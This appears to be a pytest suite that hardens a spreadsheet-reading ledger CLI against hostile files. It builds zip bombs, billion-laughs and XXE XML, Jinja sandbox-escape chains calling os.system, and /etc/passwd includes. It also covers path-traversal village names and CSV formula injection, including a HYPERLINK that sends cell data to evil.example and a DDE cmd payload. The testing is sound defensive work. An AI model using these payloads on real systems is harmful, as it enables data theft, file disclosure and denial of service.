"""A corpus of hostile inputs, each generated here at run time (nothing large is committed), each with a test.

Spreadsheets: empty, random bytes, truncated and bit-flipped files; text named .xlsx/.xls/.ods; a zip bomb
and cells placed at the far corner of a sheet (bounded time and memory, checked in a child process under a
memory limit); entity-expansion and external-entity XML; a 10 MB cell. CSV in encodings lax does not read.
Templates reaching for Python internals. Village names that try to leave the ledger folder. Text starting
with = + - @ written to CSV and xlsx.

The two memory bombs calamine cannot survive (a cell at XFD1048576, an .ods cell repeated 99 million times)
are caught by `lax.read.guard`'s watched child process; tests/test_guard.py tests the watching itself.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from helpers import GB, ROOT, far_corner_xlsx, patched_xlsx, plain_xlsx, run_bounded, zip_bomb_xlsx
from hypothesis import given
from hypothesis import strategies as st
from hypothesis_profiles import examples
from typer.testing import CliRunner

from lax.cli import app
from lax.criteria import load_criteria
from lax.read.records import read_records

DATA = Path(__file__).resolve().parent / "data"
CRIT = load_criteria(ROOT / "criteria.yaml")
runner = CliRunner()


def one_unreadable(r: subprocess.CompletedProcess, path: Path) -> dict:
    """The check ran to its end (exit 2) and reported exactly one problem: this file cannot be read."""
    assert r.returncode == 2, (r.returncode, r.stderr[-2000:])
    data = json.loads(r.stdout)
    assert [(p["code"], p["path"]) for p in data["problems"]] == [("unreadable-file", str(path))], data["problems"][:3]
    assert "\n" not in data["problems"][0]["message"] and len(data["problems"][0]["message"]) < 300
    return data


# ------------------------------------------------------------------------------------------ zip bombs


def test_the_zip_bomb_is_what_it_claims(tmp_path):
    bomb = zip_bomb_xlsx(tmp_path / "bomb.xlsx", 64)
    with zipfile.ZipFile(bomb) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
        assert info.file_size > 64 << 20 and bomb.stat().st_size < 200_000
        assert z.testzip() is None


def test_a_zip_bomb_is_refused_in_bounded_time_and_memory(tmp_path):
    bomb = zip_bomb_xlsx(tmp_path / "bomb.xlsx", 3000)
    started = time.monotonic()
    r = run_bounded(["check", str(bomb), "--format", "json"], tmp_path, memory=GB, timeout=60)
    assert time.monotonic() - started < 60
    one_unreadable(r, bomb)


def test_a_zip_bomb_that_lies_about_its_size_is_refused_in_bounded_memory(tmp_path):
    # The zip directory says 1 MB, so a guard reading the directory lets it through; the unpacking must stop.
    bomb = zip_bomb_xlsx(tmp_path / "liar.xlsx", 3000, declared=1 << 20)
    started = time.monotonic()
    r = run_bounded(["check", str(bomb), "--format", "json"], tmp_path, memory=GB, timeout=60)
    assert time.monotonic() - started < 60
    one_unreadable(r, bomb)


def test_a_cell_in_the_far_corner_of_a_sheet_is_refused(tmp_path):
    far = far_corner_xlsx(tmp_path / "far.xlsx")
    r = run_bounded(["check", str(far), "--format", "json"], tmp_path, memory=GB, timeout=60)
    assert "memory allocation" not in r.stderr  # the dying library's own words stay out of the user's way
    problem = one_unreadable(r, far)["problems"][0]
    assert problem["sheet"] == "排查表"
    assert problem["message"].startswith("sheet '排查表' could not be read: the spreadsheet reader ran out of memory")


def test_a_huge_declared_dimension_alone_is_harmless(tmp_path):
    dim = patched_xlsx(
        tmp_path / "dim.xlsx", lambda xml: re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml)
    )
    r = run_bounded(["check", str(dim), "--format", "json"], tmp_path, memory=GB, timeout=60)
    assert r.returncode == 1, r.stderr
    assert [v["village"] for v in json.loads(r.stdout)["villages"]] == ["宋三村"]


def ods(path: Path, body: str) -> Path:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
        f'<office:spreadsheet><table:table table:name="排查表">{body}</table:table></office:spreadsheet>'
        "</office:body></office:document-content>"
    )
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
            '<manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
        )
        z.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
    return path


HEADER_ROW = (
    '<table:table-row><table:table-cell office:value-type="string"><text:p>乡镇</text:p></table:table-cell>'
    '<table:table-cell office:value-type="string"><text:p>村名</text:p></table:table-cell></table:table-row>'
)


def repeated(rows: int, cols: int) -> str:
    return (
        f'<table:table-row table:number-rows-repeated="{rows}"><table:table-cell '
        f'table:number-columns-repeated="{cols}" office:value-type="string"><text:p>x</text:p>'
        "</table:table-cell></table:table-row>"
    )


def test_an_ods_repeating_a_cell_17_billion_times_is_one_problem(tmp_path):
    path = ods(tmp_path / "bomb.ods", HEADER_ROW + repeated(1_048_575, 16_384))
    assert path.stat().st_size < 2000
    one_unreadable(run_bounded(["check", str(path), "--format", "json"], tmp_path, memory=GB, timeout=60), path)


def test_an_ods_repeating_a_cell_99_million_times_is_refused_in_bounded_memory(tmp_path):
    path = ods(tmp_path / "bomb.ods", HEADER_ROW + repeated(9_000, 11_000))
    one_unreadable(run_bounded(["check", str(path), "--format", "json"], tmp_path, memory=GB, timeout=60), path)


# --------------------------------------------------------------------------------------------- XML


def _entity_bomb(levels: int) -> str:
    ents = '<!ENTITY a0 "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY a{i} "' + f"&a{i - 1};" * 10 + '">' for i in range(1, levels + 1)
    )
    return f"<!DOCTYPE worksheet [{ents}]>"


@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/workbook.xml"])
def test_an_entity_expansion_bomb_is_refused_in_bounded_time_and_memory(tmp_path, member):
    def patch(xml: str) -> str:
        if "sheet1" in member:
            xml = xml.replace("<worksheet", _entity_bomb(12) + "<worksheet", 1)
            return re.sub(r'<c r="B2"[^>]*>.*?</c>', '<c r="B2" t="inlineStr"><is><t>&a12;</t></is></c>', xml)
        xml = xml.replace("<workbook", _entity_bomb(12).replace("worksheet", "workbook") + "<workbook", 1)
        return xml.replace('name="排查表"', 'name="&a12;"')

    path = patched_xlsx(tmp_path / "laughs.xlsx", patch, member)
    started = time.monotonic()
    r = run_bounded(["check", str(path), "--format", "json"], tmp_path, memory=GB, timeout=60)
    assert time.monotonic() - started < 30
    assert len(r.stdout) < 100_000 and "lollol" not in r.stdout  # nothing was expanded
    one_unreadable(r, path)


@pytest.mark.parametrize(
    "doctype, where",
    [
        ('<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>', "entity"),
        ('<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "file://{secret}"> %p;]>', "parameter entity"),
        ('<!DOCTYPE worksheet SYSTEM "file://{secret}">', "external DTD"),
    ],
)
def test_an_external_entity_never_reads_a_local_file(tmp_path, doctype, where):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-县委组织部-内部", encoding="utf-8")

    def patch(xml: str) -> str:
        xml = xml.replace("<worksheet", doctype.format(secret=secret) + "<worksheet", 1)
        if "xxe" in doctype:
            xml = re.sub(r'<c r="B2"[^>]*>.*?</c>', '<c r="B2" t="inlineStr"><is><t>&xxe;</t></is></c>', xml)
        return xml

    path = patched_xlsx(tmp_path / "xxe.xlsx", patch)
    for fmt in ("json", "csv", "table"):
        r = runner.invoke(app, ["check", str(path), "--format", fmt])
        assert "TOP-SECRET" not in r.output, (where, fmt)
        assert r.exit_code in (1, 2) and "Traceback" not in r.output


def test_an_ods_with_an_external_entity_never_reads_a_local_file(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET", encoding="utf-8")
    path = ods(
        tmp_path / "xxe.ods",
        HEADER_ROW + '<table:table-row><table:table-cell office:value-type="string">'
        '<text:p>邓埠镇</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>&xxe;'
        "</text:p></table:table-cell></table:table-row>",
    )
    with zipfile.ZipFile(path) as z:
        files = {n: z.read(n) for n in z.namelist()}
    files["content.xml"] = files["content.xml"].replace(
        b"<office:document-content",
        f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]><office:document-content'.encode(),
        1,
    )
    with zipfile.ZipFile(path, "w") as z:
        for n, d in files.items():
            z.writestr(n, d)
    r = runner.invoke(app, ["check", str(path), "--format", "json"])
    assert "TOP-SECRET" not in r.output and r.exit_code in (1, 2)


# ------------------------------------------------------------------------- broken and disguised files


@pytest.mark.parametrize("name", ["text.xlsx", "text.xls", "text.ods", "text.xlsm"])
def test_a_text_file_with_a_spreadsheet_name(tmp_path, name):
    path = tmp_path / name
    path.write_text("乡镇,村名\n邓埠镇,宋三村\n", encoding="utf-8")
    records, problems = read_records([str(path)], CRIT)
    assert records == [] and [(p.code, p.path) for p in problems] == [("unreadable-file", str(path))]
    assert (
        problems[0].message
        == "cannot read the file: this is a text file, not a spreadsheet (if it is CSV, name it .csv)"
    )


def test_the_password_protected_workbook_on_the_command_line(tmp_path):
    r = runner.invoke(app, ["check", str(DATA / "encrypted.xlsx")])
    assert r.exit_code == 2 and "Traceback" not in r.output
    assert "the workbook is password-protected or encrypted; save an unprotected copy [unreadable-file]" in r.stdout


SEEDS = {}


def _seed(kind: str, folder: Path) -> bytes:
    if kind not in SEEDS:
        if kind == "xlsx":
            SEEDS[kind] = plain_xlsx(folder / "seed.xlsx").read_bytes()
        elif kind == "xls":
            SEEDS[kind] = (DATA / "legacy.xls").read_bytes()
        else:
            SEEDS[kind] = ods(
                folder / "seed.ods",
                HEADER_ROW + "<table:table-row><table:table-cell "
                'office:value-type="string"><text:p>邓埠镇</text:p></table:table-cell>'
                '<table:table-cell office:value-type="string"><text:p>宋三村</text:p>'
                "</table:table-cell></table:table-row>",
            ).read_bytes()
    return SEEDS[kind]


@examples(30, dev=150)
@given(
    kind=st.sampled_from(["xlsx", "xls", "ods"]),
    cut=st.floats(0, 1),
    flips=st.lists(st.tuples(st.floats(0, 1), st.integers(1, 255)), max_size=4),
    noise=st.binary(max_size=64),
)
def test_truncated_and_damaged_spreadsheets_are_one_problem_or_read(tmp_path_factory, kind, cut, flips, noise):
    folder = tmp_path_factory.mktemp("broken")
    data = bytearray(_seed(kind, folder))
    for where, xor in flips:
        data[int(where * (len(data) - 1))] ^= xor
    data = bytes(data[: int(cut * len(data))]) + (noise if cut < 1 else b"")
    path = folder / f"broken.{kind}"
    path.write_bytes(data)
    records, problems = read_records([str(path)], CRIT)
    for p in problems:
        assert p.code and p.path == str(path) and "\n" not in p.message and len(p.message) < 400, p
    assert records or problems


@examples(30, dev=150)
@given(
    data=st.binary(max_size=2000), suffix=st.sampled_from([".xlsx", ".xls", ".xlsb", ".ods", ".csv", ".yaml", ".json"])
)
def test_random_bytes_under_any_name_never_raise(tmp_path_factory, data, suffix):
    path = tmp_path_factory.mktemp("bytes") / f"noise{suffix}"
    path.write_bytes(data)
    records, problems = read_records([str(path)], CRIT)
    for p in problems:
        assert p.code and p.path == str(path) and "\n" not in p.message, p


# ---------------------------------------------------------------------------------------- a 10 MB cell

TEN_MB = 10 * 1024 * 1024


def test_a_10_mb_village_name_is_read_in_bounded_time(tmp_path):
    name = "长" * (TEN_MB // 3)
    path = patched_xlsx(
        tmp_path / "long.xlsx",
        lambda xml: re.sub(r'<c r="B2"[^>]*>.*?</c>', f'<c r="B2" t="inlineStr"><is><t>{name}</t></is></c>', xml),
    )
    # CPU time of this process: the work done, not how busy the machine is (two test workers, other jobs)
    started = time.process_time()
    records, problems = read_records([str(path)], CRIT)
    assert time.process_time() - started < 10
    # no village is named with 3.5 million characters: a bad-name problem (issue 9), its message cut short
    assert [(p.code, p.row, p.column) for p in problems] == [("bad-name", 2, "B")]
    assert len(problems[0].message) < 300 and "3495253 characters" in problems[0].message
    assert all(r.values[CRIT.index["village"]] != name for r in records)


def test_a_10_mb_csv_cell_is_read_in_bounded_time(tmp_path):
    path = tmp_path / "long.csv"
    path.write_text("乡镇,村名,备注\n邓埠镇,宋三村," + "x" * TEN_MB + "\n黄溪镇,塔洲村,\n", encoding="utf-8")
    started = time.process_time()
    records, problems = read_records([str(path)], CRIT)
    assert time.process_time() - started < 10
    # Read, or refused as a whole with one short message (Python's csv module caps a field at 128 KB).
    assert (problems == [] and len(records) == 2) or (
        records == [] and [p.code for p in problems] == ["unreadable-file"] and len(problems[0].message) < 300
    )


def test_a_10_mb_bad_cell_gives_a_short_message(tmp_path):
    path = patched_xlsx(
        tmp_path / "long.xlsx",
        lambda xml: re.sub(
            r'<c r="C2"[^>]*>.*?</c>', '<c r="C2" t="inlineStr"><is><t>' + "是" * (TEN_MB // 3) + "</t></is></c>", xml
        ),
    )
    records, problems = read_records([str(path)], CRIT)
    assert [(p.code, p.row, p.column) for p in problems] == [("bad-bool", 2, "C")]
    assert len(problems[0].message) < 300


def test_a_bad_cell_with_a_line_break_gives_a_one_line_message(tmp_path):
    path = plain_xlsx(
        tmp_path / "break.xlsx", [("乡镇", "村名", "换届完成"), ("邓埠镇", "宋三村", "已完成\n（待复核）")]
    )
    records, problems = read_records([str(path)], CRIT)
    assert [(p.code, p.row, p.column) for p in problems] == [("bad-bool", 2, "C")]
    assert "\n" not in problems[0].message


# --------------------------------------------------------------------------------- CSV in odd encodings

CSV_TEXT = "乡镇,村名,换届完成\n邓埠镇,宋三村,否\n"


@pytest.mark.parametrize(
    "encoding", ["utf-16-le", "utf-16-be", "utf-32", "shift_jis", "big5", "cp500", "euc-kr", "koi8-r", "latin-1"]
)
def test_a_csv_in_an_unexpected_encoding_is_one_problem_never_garbage(tmp_path, encoding):
    path = tmp_path / "dengbu.csv"
    text = (
        CSV_TEXT
        if encoding not in ("koi8-r", "latin-1", "cp500")
        else "township,village,election_completed\nDengbu,Songsan,no\n"
    )
    try:
        raw = text.encode(encoding)
    except UnicodeEncodeError:
        raw = text.encode(encoding, errors="replace")
    path.write_bytes(raw)
    records, problems = read_records([str(path)], CRIT)
    for p in problems:
        assert p.path == str(path) and p.code in ("unreadable-file", "no-header") and "\n" not in p.message
    if records:  # read: then it reads right (an ASCII file in latin-1 is plain ASCII)
        assert [r.values[CRIT.index["village"]] for r in records] in (["宋三村"], ["Songsan"])
    else:
        assert len(problems) == 1


def test_a_csv_with_a_bom_in_utf16_is_read(tmp_path):
    path = tmp_path / "dengbu.csv"
    path.write_bytes(CSV_TEXT.encode("utf-16"))
    records, problems = read_records([str(path)], CRIT)
    assert problems == [] and [r.values[CRIT.index["village"]] for r in records] == ["宋三村"]


# -------------------------------------------------------------------------------- templates and Python


def _tiny_ledger(folder: Path) -> Path:
    led = folder / "ledger"
    r = runner.invoke(
        app,
        [
            "ledger",
            "open",
            "东阳村",
            "--township",
            "洪湖乡",
            "--standards",
            "C07",
            "--date",
            "2026-08-20",
            "--ledger",
            str(led),
        ],
    )
    assert r.exit_code == 0, r.output
    return led


@pytest.mark.parametrize(
    "expr",
    [
        "cycler.__init__.__globals__.os",
        "joiner.__init__.__globals__",
        "lipsum.__globals__['os']",
        "namespace.__init__.__globals__",
        "self.__init__.__globals__",
        "self._TemplateReference__context",
        "range.__self__",
        "''.__class__.__mro__[1].__subclasses__()",
        "[].__class__.__base__.__subclasses__()",
        "(1).__class__.__bases__",
        "villages.__class__",
        "''|attr('__class__')",
        "'{0.__class__.__mro__}'.format('')",
        "'%s'.format.__globals__",
        "request.application.__globals__",
        "config",
        "__builtins__",
        "().__class__.__bases__[0].__subclasses__()[0].__init__.__globals__['sys'].modules['os'].system('touch {marker}')",
    ],
)
def test_a_template_reaching_for_python_internals_gets_nothing(tmp_path, expr):
    marker = tmp_path / "pwned"
    led = _tiny_ledger(tmp_path)
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "county.en.md.j2").write_text(
        "# Report\n\n{{ " + expr.replace("{marker}", str(marker)) + " }}\n", encoding="utf-8"
    )
    r = runner.invoke(
        app,
        ["report", "--quarter", "2026Q3", "--templates", str(mine), "--ledger", str(led)],
        env={"LAX_TODAY": "2026-10-15"},
    )
    assert r.exit_code == 2, r.output
    assert r.stderr.startswith(f"{mine}/county.en.md.j2:3: ") and r.stderr.count("\n") == 1, r.stderr
    assert any(w in r.stderr for w in ("unsafe", "undefined", "refused by the template sandbox", "no attribute")), (
        r.stderr
    )
    assert r.stdout == "" and "<module 'os'" not in r.output and not marker.exists()


@pytest.mark.parametrize(
    "text",
    [
        "{% include '/etc/passwd' %}",
        "{% include '../../../../../../etc/passwd' %}",
        "{% extends '/etc/hostname' %}",
        "{% import '../secret.j2' as s %}{{ s }}",
    ],
)
def test_a_template_cannot_include_files_outside_the_template_folders(tmp_path, text):
    led = _tiny_ledger(tmp_path)
    (tmp_path / "secret.j2").write_text("TOP-SECRET", encoding="utf-8")
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "county.en.md.j2").write_text("# R\n" + text + "\n", encoding="utf-8")
    r = runner.invoke(
        app,
        ["report", "--quarter", "2026Q3", "--templates", str(mine), "--ledger", str(led)],
        env={"LAX_TODAY": "2026-10-15"},
    )
    assert r.exit_code == 2 and "TemplateNotFound" in r.stderr and r.stderr.count("\n") == 1
    assert "TOP-SECRET" not in r.output and "root:" not in r.output


# ------------------------------------------------------------------------- village names and the ledger

ESCAPES = [
    "../../etc/passwd",
    "..",
    "../..",
    ".",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\server\\share",
    ".hidden",
    ".lock",
    ".cache",
    "_townships",
    "CON",
    "NUL.txt",
    "a" * 300,
    "村/../../x",
    "~",
    "$HOME",
    "宋三村\u202e",
    "宋三村\u200b",
    "-rf",
    "--help",
    "*",
    "?",
    "|",
    "<x>",
    '"q"',
    "a:b",
]


def _sheet(tmp_path, names, file="in.csv"):
    rows = [("乡镇", "村名", "换届完成")]
    rows += [("邓埠镇" if k % 3 else name, name, "否") for k, name in enumerate(names)]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    (tmp_path / file).write_text(buf.getvalue(), encoding="utf-8")
    return tmp_path / file


def _ledger_can_hold(name):
    from lax.ledger import check_name
    from lax.problems import LaxError

    try:
        check_name(name, "village")
        return True
    except LaxError:
        return False


def test_village_names_from_a_township_sheet_cannot_leave_the_ledger_folder(tmp_path):
    work = tmp_path / "work"
    work.mkdir()
    led = work / "ledger"
    # Names with '/', '\\' or control characters are refused as `lax ledger open` refuses them: nothing recorded.
    everything = _sheet(tmp_path, ESCAPES, "all.csv")
    before = {p for p in tmp_path.rglob("*")}
    r = runner.invoke(
        app,
        ["check", str(everything), "--record", "--ledger", str(led), "--format", "json"],
        env={"LAX_TODAY": "2026-10-01"},
    )
    assert r.exit_code == 2 and "nothing recorded" in r.stderr, r.output
    assert not [p for p in tmp_path.rglob("*.yaml") if p not in before]
    # Every other name, however odd (., .lock, CON, $HOME, ~ ...), is kept inside the folder under its own name.
    held = _sheet(tmp_path, [n for n in ESCAPES if _ledger_can_hold(n)])
    before = {p for p in tmp_path.rglob("*")}
    r = runner.invoke(
        app, ["check", str(held), "--record", "--ledger", str(led), "--format", "json"], env={"LAX_TODAY": "2026-10-01"}
    )
    assert r.exit_code in (1, 2) and "Traceback" not in r.output and "internal error" not in r.output, r.output
    created = {p for p in tmp_path.rglob("*")} - before
    assert created and all(p == led or led in p.parents for p in created), sorted(map(str, created))
    for p in led.glob("*.yaml"):
        assert p.parent == led and not p.name.startswith(".") and ".." not in p.name and "/" not in p.name
    assert not (led / ".lock").read_bytes()  # the lock file was not overwritten by a village called .lock
    r = runner.invoke(app, ["ledger", "verify", "--ledger", str(led)])
    assert r.exit_code == 0, r.output
    r = runner.invoke(
        app, ["ledger", "list", "--format", "json", "--ledger", str(led)], env={"LAX_TODAY": "2026-10-01"}
    )
    listed = {v["village"] for v in json.loads(r.stdout)["villages"]}
    read, _problems = read_records([str(held)], CRIT)
    assert listed == {rec.values[CRIT.index["village"]] for rec in read}  # every village kept, under its own name


def test_a_ledger_recorded_from_a_sheet_exports_and_imports_back(tmp_path):
    rows = [("乡镇", "村名", "换届完成"), ("邓埠镇", "宋三村", "否"), ("邓埠镇", "东/西村", "否")]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    (tmp_path / "in.csv").write_text(buf.getvalue(), encoding="utf-8")
    led, again = tmp_path / "ledger", tmp_path / "again"
    env = {"LAX_TODAY": "2026-10-01"}
    r = runner.invoke(
        app, ["check", str(tmp_path / "in.csv"), "--record", "--ledger", str(led), "--format", "json"], env=env
    )
    if r.exit_code == 2:  # refused with one rule for names: then nothing was recorded
        assert not list(led.rglob("*.yaml")) and "东/西村" in r.stderr
        return
    assert r.exit_code == 1
    assert (
        runner.invoke(app, ["ledger", "export", str(tmp_path / "台账.xlsx"), "--ledger", str(led)], env=env).exit_code
        == 0
    )
    r = runner.invoke(app, ["ledger", "import", str(tmp_path / "台账.xlsx"), "--ledger", str(again)], env=env)
    assert r.exit_code == 0, r.output


@pytest.mark.parametrize("name", ESCAPES)
def test_a_village_name_typed_on_the_command_line_cannot_leave_the_ledger_folder(tmp_path, name):
    led = tmp_path / "ledger"
    r = runner.invoke(
        app,
        [
            "ledger",
            "open",
            "--township",
            "邓埠镇",
            "--standards",
            "C05",
            "--date",
            "2026-09-30",
            "--ledger",
            str(led),
            "--",
            name,
        ],
    )
    assert r.exit_code in (0, 2) and "Traceback" not in r.output and "internal error" not in r.output, r.output
    outside = [p for p in tmp_path.rglob("*") if led not in p.parents and p != led]
    assert outside == []
    if r.exit_code == 0:
        files = list(led.glob("*.yaml"))
        assert len(files) == 1 and files[0].parent == led


# --------------------------------------------------------------------------- formulas in CSV and xlsx

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
]


NAMES = ['=HYPERLINK("evil","点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' -C calc'!A0", "＝1+1", "=1+1"]


def _formula_input(tmp_path: Path) -> Path:
    """Names starting like formulas (no '/': see the test above), and formulas as bad values (problems)."""
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["乡镇", "村名", "换届完成", "村代码"])
    for k, f in enumerate(NAMES):
        w.writerow(["邓埠镇" if k % 2 else f, f"{f}村{k}" if k % 2 else f, "否", f"36062210{k:04d}"])
    for k, f in enumerate(FORMULAS):
        w.writerow(["黄溪镇", f"问题村{k}", f, ""])
    path = tmp_path / "formulas.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def _inert(text: str) -> bool:
    """Text a spreadsheet shows as text: not starting with = + @ (or their full-width forms, a tab or a CR),
    nor with a minus followed by a digit (a dash in a table, '-', is fine)."""
    return text[0] not in "=+@\t\r＝＋＠－" and not (text[0] == "-" and text[1:2].isdigit())


def _no_formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value:
                    assert _inert(cell.value), (ws.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    return texts


def test_text_starting_like_a_formula_is_written_inert_everywhere(tmp_path):
    source = _formula_input(tmp_path)
    led = tmp_path / "ledger"
    env = {"LAX_TODAY": "2026-10-01"}
    r = runner.invoke(app, ["check", str(source), "--format", "csv", "--output", str(tmp_path / "out.csv")], env=env)
    assert r.exit_code == 2, r.output  # the formulas in the yes/no column are bad values
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as f:
        for row in csv.reader(f):
            for cell in row:
                assert not cell or _inert(cell), cell
    r = runner.invoke(app, ["check", str(source), "--format", "xlsx", "--output", str(tmp_path / "out.xlsx")], env=env)
    assert r.exit_code == 2, r.output
    texts = _no_formula_cells(tmp_path / "out.xlsx")
    assert "'" + FORMULAS[0] in texts and "'" + NAMES[0] in texts  # a problem's value, a village's name
    clean = tmp_path / "clean.csv"
    clean.write_text(
        "".join(source.read_text(encoding="utf-8").splitlines(keepends=True)[: len(NAMES) + 1]), encoding="utf-8"
    )
    r = runner.invoke(app, ["check", str(clean), "--record", "--ledger", str(led), "--format", "json"], env=env)
    assert r.exit_code == 1, r.output
    r = runner.invoke(app, ["ledger", "list", "--format", "csv", "--ledger", str(led)], env=env)
    assert r.exit_code == 0
    for row in csv.reader(io.StringIO(r.stdout)):
        for cell in row:
            assert not cell or _inert(cell), cell
    for args in (
        ["list", "--format", "xlsx", "--output", str(tmp_path / "list.xlsx")],
        ["export", str(tmp_path / "台账.xlsx")],
    ):
        r = runner.invoke(app, ["ledger", *args, "--ledger", str(led)], env=env)
        assert r.exit_code == 0, r.output
    _no_formula_cells(tmp_path / "list.xlsx")
    _no_formula_cells(tmp_path / "台账.xlsx")
    # The exported ledger imports back with the names as they were typed, quote removed.
    again = tmp_path / "again"
    r = runner.invoke(app, ["ledger", "import", str(tmp_path / "台账.xlsx"), "--ledger", str(again)], env=env)
    assert r.exit_code == 0, r.output
    r1 = runner.invoke(app, ["ledger", "list", "--format", "json", "--ledger", str(led)], env=env)
    r2 = runner.invoke(app, ["ledger", "list", "--format", "json", "--ledger", str(again)], env=env)
    names = lambda r: sorted((v["township"], v["village"]) for v in json.loads(r.stdout)["villages"])  # noqa: E731
    assert names(r1) == names(r2)
